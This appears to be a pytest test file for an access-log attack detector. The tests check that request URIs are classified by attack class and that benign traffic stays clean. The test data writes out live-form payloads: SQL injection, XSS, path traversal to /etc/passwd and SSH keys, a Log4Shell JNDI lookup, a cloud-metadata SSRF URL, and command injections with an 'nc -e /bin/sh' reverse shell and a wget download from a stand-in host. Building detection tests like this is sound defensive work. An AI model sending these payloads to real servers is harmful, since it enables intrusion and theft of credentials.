"""Classification of single requests, its commands, and the goals on real payloads and logs."""

from __future__ import annotations

import csv
from collections import Counter
from pathlib import Path

import pyarrow as pa
import pytest

from penstock.apps.accesslog.defence.defence_settings import DefenceSettings
from penstock.apps.accesslog.detection.detector import Detector
from penstock.apps.accesslog.detection.request_classification import classify
from penstock.apps.accesslog.detection.rule_set import default_rules
from penstock.apps.accesslog.parsing.line_parser import make_parser, take_texts
from penstock.cli import main
from tests.support.accesslog.fed_engine import FedEngine
from tests.support.console import drop_compilation

#: The class that one line of each scenario's file must raise; rules that count are not here.
HUB = {
    "apache-http-probing": "file_inclusion",
    "apache2-http-sensitive-files": "secret_file",
    "apache2-malformed": "protocol_abuse",
    "apache_log4j2_cve-2021-44228": "java_injection",
    "http-admin-interface-probing": "cms_probe",
    "http-cve-probing": "cve_probe",
    "http-dos-invalid-http-versions": "protocol_abuse",
    "http-technology-probing": "cve_probe",
    "http-wordpress-scan": "cms_probe",
    "http-wordpress_user-enum": "enumeration",
    "http-wordpress_wpconfig": "cms_probe",
    "nginx-http-backdoor": "web_shell",
    "nginx-http-open-proxy": "proxy_abuse",
    "nginx-http-path-traversal": "path_traversal",
    "nginx-http-sensitive-files": "secret_file",
    "nginx-http-sqli-probing": "sql_injection",
    "nginx-http-w00twoot": "scanner",
    "nginx-http-xss-probing": "xss",
}
#: Written for this test, not taken from a collection: classes must hold beyond what the rules were tried on.
ATTACKS = {
    "sql_injection": [
        "/p?id=-7%27%20UnIoN%20aLl%20SeLeCt%20null,user()--%20-",
        "/p?id=2)%20and%20(3=3",
        "/i?n=1;waitfor%20delay%20%270:0:9%27",
        "/p?id=1'or'1",
        "/p?id=(1)or(1)=(1)",
        "/p?id=1'-0-'",
        "/p?id=1%26%261",
        "/p?id=1%20union%23a%0aselect%201,2",
    ],
    "xss": [
        "/s?q=%22%3E%3Cvideo%20src=1%20onerror=fetch(1)%3E",
        "/s?q=%3Cdetails/open/ontoggle=confirm()%3E",
        "/s?u=jAvAsCrIpT:alert(9)",
    ],
    "path_traversal": [
        "/dl?n=..%252f..%252f..%252fetc%252fhosts",
        "/static/..%5c..%5c..%5cwindows%5cwin.ini",
    ],
    "command_injection": [
        "/ping?h=8.8.8.8;nc%20-e%20/bin/sh%20192.0.2.1%201",
        "/x?a=%60wget%20http://192.0.2.1/m.sh%60",
        "/x?h=a%7C%7Cw%22h%22oami",
    ],
    "php_injection": ["/a?b=%3C?php%20passthru($_GET[1]);", "/a?f=create_function(%27%27,$x)"],
    "template_injection": [
        "/t?n=%7B%7Brequest.application.__globals__%7D%7D",
        "/t?u=http://169.254.169.254/latest/user-data",
    ],
    "java_injection": [
        "/?a=$%7Bjndi:rmi://192.0.2.1:1099/x%7D",
        "/?class.module.classLoader.resources.x=1",
    ],
    "file_inclusion": [
        "/?page=php://filter/convert.base64-encode/resource=index",
        "/?inc=http://192.0.2.9/s.txt?",
        "/?page=php:%0a//filter/x",
    ],
    "secret_file": ["/app/.env.local", "/.git/index", "/backup.tar.gz", "/.env%20", "/x/.env;.js"],
}
CLEAN = [
    "/",
    "/shop?page=2&sort=price&dir=desc",
    "/search?q=union+of+students+select+committee",
    "/a/b/c.css?v=1.2.3",
    "/search?q=how+to+drop+a+table+cloth",
    "/?utm_source=news&utm_campaign=a%20b",
    "/item/5?color=red%2Cblue",
    "/blog/2020/05/what-is-sql-injection",
    "/search?q=O%27Reilly+books",
    "/api/v1/users?filter=name&order=asc",
    "/search?q=cat+and+dog",
    "/?s=script+for+a+play",
    "/login?next=/account/orders",
    "/img?src=/uploads/a.png&w=200",
    "/search?q=C%2B%2B+system+(2nd+edition)",
    "/oauth?redirect_uri=https%3A%2F%2Fapp.example%2Fcb&state=aB--9",
]


@pytest.mark.parametrize("expected", ATTACKS)
def test_payloads_of_other_making_are_attacks_of_their_class(expected: str) -> None:
    judged = classify(ATTACKS[expected], default_rules())
    assert [(each.verdict, each.attack_class) for each in judged] == [("attack", expected)] * len(judged)


def test_ordinary_targets_are_clean() -> None:
    judged = zip(CLEAN, classify(CLEAN, default_rules()), strict=True)
    assert [(uri, each.rules) for uri, each in judged if each.verdict != "clean"] == []


#: Paths that rules of two classes hit, with both classes.
OF_TWO_CLASSES = {
    "/../../etc/passwd": "path_traversal",
    "/..%2f..%2fetc/passwd": "path_traversal",
    "/%2e%2e/%2e%2e/etc/passwd": "path_traversal",
    "/..%c0%af..%c0%afetc/passwd": "path_traversal",
    "/....//....//etc/passwd": "path_traversal",
    "/a/..;/..;/etc/passwd": "path_traversal",
    "/cgi-bin/.%2e/.%2e/etc/passwd": "path_traversal",
    "/static/../../../etc/shadow": "path_traversal",
    "/../etc/shadow": "path_traversal",
    "/etc/passwd": "path_traversal",
    "//etc/passwd": "path_traversal",
    "/?file=../../etc/passwd": "path_traversal",
    "/download?f=..%252f..%252fetc%252fpasswd": "path_traversal",
    "/?page=php://filter/resource=../../etc/passwd": "path_traversal",
    "/..\\..\\windows\\win.ini": "path_traversal",
    "/../../backup.zip": "path_traversal",
    "/x/..;/..;/WEB-INF/web.xml": "path_traversal",
    "/static/etc/passwd": "secret_file",
    "/../../id_rsa": "secret_file",
    "/../../.ssh/id_rsa": "secret_file",
    "/a/../../.env": "secret_file",
    "/../.git/config": "secret_file",
    "/../wp-config.php.bak": "cms_probe",
}


def test_a_request_has_one_class_whether_it_is_classified_or_decided_upon() -> None:
    targets = list(OF_TWO_CLASSES)
    classified = [each.attack_class for each in classify(targets, default_rules())]
    assert dict(zip(targets, classified, strict=True)) == OF_TWO_CLASSES
    for target in targets:
        line = (
            f'203.0.113.7 - - [14/Nov/2023:22:13:20 +0000] "GET {target} HTTP/1.1" 404 512 "-" "Mozilla/5.0"'
        )
        engine = FedEngine(DefenceSettings.default(), partitions=[0])
        made = [engine.feed({0: pa.array([line.encode()], pa.binary())}), engine.finish()]
        decided = [row["class"] for table in made for row in table.to_pylist()]
        assert (target, decided) == (target, [OF_TWO_CLASSES[target]])


def test_a_csv_is_judged_row_by_row(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    given, written = tmp_path / "in.csv", tmp_path / "out.csv"
    given.write_text('id,uri\n1,"/?q=<script>alert(1)</script>"\n2,/about\n')
    assert main(["accesslog", "classify", str(given), str(written)]) == 0
    rows = list(csv.DictReader(written.read_text().splitlines()))
    assert [(row["verdict"], row["class"]) for row in rows] == [("attack", "xss"), ("clean", "")]
    assert int(rows[0]["score"]) >= 10
    assert "2 requests, 1 attack" in capsys.readouterr().out


def test_a_dash_is_standard_input_or_output(
    tmp_path: Path, capfdbinary: pytest.CaptureFixture[bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    """It is read byte by byte, even if it is not text; the count does not mix with the verdicts."""
    monkeypatch.chdir(tmp_path)
    Path("in.csv").write_bytes(b"uri\n/about\xff\n/?q=<script>alert(1)</script>\n")
    with open("in.csv") as given:
        monkeypatch.setattr("sys.stdin", given)
        assert main(["accesslog", "classify", "-", "-"]) == 0
    written = capfdbinary.readouterr()
    assert written.out.startswith(b"uri,verdict,class,score\r\n/about\xff,clean,,0\r\n/?q=<script>")
    assert drop_compilation(written.err.decode()) == "2 requests, 1 attack\n"
    assert not Path("-").exists()


@pytest.mark.parametrize("path", ["in.csv", "-"])
def test_a_csv_without_the_column_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    """A log, for instance; the error names the command that reads logs."""
    monkeypatch.chdir(tmp_path)
    Path("in.csv").write_text('192.0.2.1 - - [10/Oct/2000:13:55:00 +0000] "GET / HTTP/1.1" 200 1\n')
    with open("in.csv") as given:
        monkeypatch.setattr("sys.stdin", given)
        assert main(["accesslog", "classify", path, "out.csv"]) == 1
    told = capsys.readouterr().err
    name = "Standard input" if path == "-" else path
    assert f"[COLUMN_MISSING] {name} has no column `uri`." in told
    assert "`penstock accesslog replay`" in told
    assert not Path("out.csv").exists()


@pytest.mark.parametrize("path", ["in.csv", "-"])
def test_a_mark_of_utf_8_in_front_of_the_header_is_none_of_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    """Spreadsheets write such a mark."""
    monkeypatch.chdir(tmp_path)
    Path("in.csv").write_bytes("\ufeffuri,id\n/about,1\n".encode())
    with open("in.csv") as given:
        monkeypatch.setattr("sys.stdin", given)
        assert main(["accesslog", "classify", path, "out.csv"]) == 0
    assert Path("out.csv").read_text().splitlines()[1:] == ["/about,clean,,0"]


def test_a_mark_of_utf_8_is_no_part_of_rules_labels_or_allowed_networks(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    rule = "id: a.b, class: xss, what: It., look: [query], any: [zz], points: 10, hits: [GET /?zz]"
    Path("rules.yaml").write_text(f"\ufeff- {{{rule}, misses: [GET /]}}")
    Path("allowed").write_text("\ufeff192.0.2.1\n")
    Path("labels.csv").write_text("\ufeffclient,label,class\n192.0.2.2,attack,xss\n")
    line = '{} - - [10/Oct/2000:13:55:00 +0000] "GET /?zz HTTP/1.1" 200 1\n'
    Path("access.log").write_text(line.format("192.0.2.1") + line.format("192.0.2.2"))
    assert main(["accesslog", "rules", "check", "rules.yaml"]) == 0
    options = ["--decisions", "found.csv", "--rules", "rules.yaml", "--allow-file", "allowed"]
    assert main(["accesslog", "replay", "access.log", *options]) == 0
    assert [row.split(",")[0] for row in Path("found.csv").read_text().splitlines()[1:]] == ["192.0.2.2"]
    assert main(["accesslog", "score", "found.csv", "labels.csv", "access.log"]) == 0
    Path("labels.csv").write_bytes(b"client,label,class\n\xff,attack,xss\n")
    assert main(["accesslog", "score", "found.csv", "labels.csv", "access.log"]) == 1
    assert "[FILE_UNREADABLE] labels.csv cannot be read: " in capsys.readouterr().err


def test_an_output_that_cannot_be_written_is_told(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("in.csv").write_text("uri\n/about\n")
    assert main(["accesslog", "classify", "in.csv", "none/out.csv"]) == 1
    told = capsys.readouterr().err
    assert "[FILE_UNWRITABLE] none/out.csv cannot be written: No such file or directory." in told
    assert main(["accesslog", "classify", "in.csv", "/dev/full"]) == 1
    told = capsys.readouterr().err
    assert "[FILE_UNWRITABLE] /dev/full cannot be written: No space left on device." in told


@pytest.mark.parametrize("points", ["0", "-5"])
def test_points_that_make_everything_an_attack_are_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], points: str
) -> None:
    given, written = tmp_path / "in.csv", tmp_path / "out.csv"
    given.write_text("uri\n/about\n")
    assert main(["accesslog", "classify", str(given), str(written), "--points", points]) == 1
    assert f"[OPTION_INVALID] --points is {points}." in capsys.readouterr().err
    assert not written.exists()


def test_a_file_of_addresses_alone_is_read_line_by_line(tmp_path: Path) -> None:
    """An address may contain commas; CSV quotes are removed where a line begins with one."""
    given, written = tmp_path / "in.csv", tmp_path / "out.csv"
    attack = "/?id=1,2%27%20UNION%20SELECT%20a,b--"
    given.write_text(f'uri\n{attack}\n\n"{attack}"\r\n/a"b",c\n"/say?a=""b"",c"\n')
    assert main(["accesslog", "classify", str(given), str(written)]) == 0
    rows = list(csv.DictReader(written.read_text().splitlines()))
    assert [row["uri"] for row in rows] == [attack, attack, '/a"b",c', '/say?a="b",c']
    assert [row["verdict"] for row in rows[:2]] == ["attack", "attack"]


@pytest.mark.parametrize(
    ("text", "told"),
    [
        (
            "id,uri\n1,/a\n2,/?id=1,2\n",
            "[ROW_INVALID] Line 3 of in.csv has 3 cells, and its header has 2: `2,/?id=1,2`.",
        ),
        ("id,uri\n1\n", "[ROW_INVALID] Line 2 of in.csv has 1 cell, and its header has 2: `1`."),
        ('uri\n"/a",/b\n', "[ROW_INVALID] Line 2 of in.csv has 2 cells, and its header has 1: `/a,/b`."),
        ('uri\n"/a\n/b\n', "[QUOTE_OPEN] In line 2 of in.csv a quote opens, and nothing closes it."),
        ('uri\n/a\n\n"/b\n/c\n', "[QUOTE_OPEN] In line 4 of in.csv a quote opens"),
        ('id,uri\n1,"/a\n/b"\n\n3,/c\n4,"/d\n5,/e\n', "[QUOTE_OPEN] In line 6 of in.csv a quote opens"),
        ('id,uri\n1,/a\n2,"/b' + "\n3,/c" * 40_000, "[QUOTE_OPEN] In line 3 of in.csv a quote opens"),
        ('id,uri\n1,/a\n2,"/b"c\n', "[FILE_UNREADABLE] in.csv cannot be read: line 3: "),
        ('"id,uri\n1,/a\n', "[QUOTE_OPEN] In line 1 of in.csv a quote opens"),
    ],
)
def test_a_row_that_does_not_fit_the_header_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, text: str, told: str
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("in.csv").write_text(text)
    assert main(["accesslog", "classify", "in.csv", "out.csv"]) == 1
    assert told in capsys.readouterr().err
    assert not Path("out.csv").exists()


def test_rules_are_listed_shown_and_checked(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["accesslog", "rules", "list", "--class", "xss"]) == 0
    assert "xss.script-tag" in capsys.readouterr().out
    assert main(["accesslog", "rules", "show", "sqli.union-select"]) == 0
    assert "Rows of another table" in capsys.readouterr().out
    mine = tmp_path / "mine.yaml"
    mine.write_text(
        "- {id: a.b, class: xss, what: It., look: [path], any: [x], hits: [GET /y], misses: [GET /]}"
    )
    assert main(["accesslog", "rules", "check", str(mine)]) == 1
    assert "does not hit 'GET /y'" in capsys.readouterr().err


def test_the_goal_for_single_payloads_holds(accesslog_data: Path) -> None:
    rows = list(csv.DictReader((accesslog_data / "payloads" / "crs-uri-tests.csv").read_text().splitlines()))
    hit: Counter[str] = Counter()
    judged = classify([row["uri"] for row in rows], default_rules())
    for row, each in zip(rows, judged, strict=True):
        hit[row["label"]] += each.verdict == "attack"
    labels = Counter(row["label"] for row in rows)
    assert hit["attack"] / labels["attack"] >= 0.85
    assert hit["fp_guard"] / labels["fp_guard"] <= 0.05


@pytest.mark.parametrize("name", HUB)
def test_each_scenario_file_raises_its_class(accesslog_data: Path, name: str) -> None:
    ruleset = default_rules()
    log = (accesslog_data / "attack" / "crowdsec-hub" / f"{name}.log").read_bytes()
    lines = make_parser().parse(pa.array([line for line in log.splitlines() if line.strip()], pa.binary()))
    found = Detector(ruleset).detect(lines)
    raised = {ruleset.rules[rule].attack_class for rule in found.hit_rules if ruleset.rules[rule].points}
    assert HUB[name] in raised


@pytest.mark.parametrize("name", ["elastic-apache-combined", "zanbil-nginx-combined-xff"])
def test_hardly_a_benign_client_gets_points_and_none_is_blocked_for_what_it_asked(
    accesslog_data: Path, name: str
) -> None:
    ruleset = default_rules()
    log = (accesslog_data / "normal" / f"{name}.log").read_bytes()
    lines = make_parser().parse(pa.array(log.splitlines(), pa.binary()))
    clients = take_texts(lines, "client").to_pylist()
    found = Detector(ruleset).detect(lines)
    points: Counter[str] = Counter()
    for row, rule in zip(found.hit_rows.tolist(), found.hit_rules.tolist(), strict=True):
        points[clients[row].decode()] += ruleset.rules[rule].points
    labels = list(csv.DictReader((accesslog_data / "labels" / f"{name}.csv").read_text().splitlines()))
    benign = [label["client"] for label in labels if label["label"] == "benign"]
    assert [client for client in benign if points[client] >= 10] == []
    assert sum(points[client] > 0 for client in benign) <= 0.002 * len(benign)
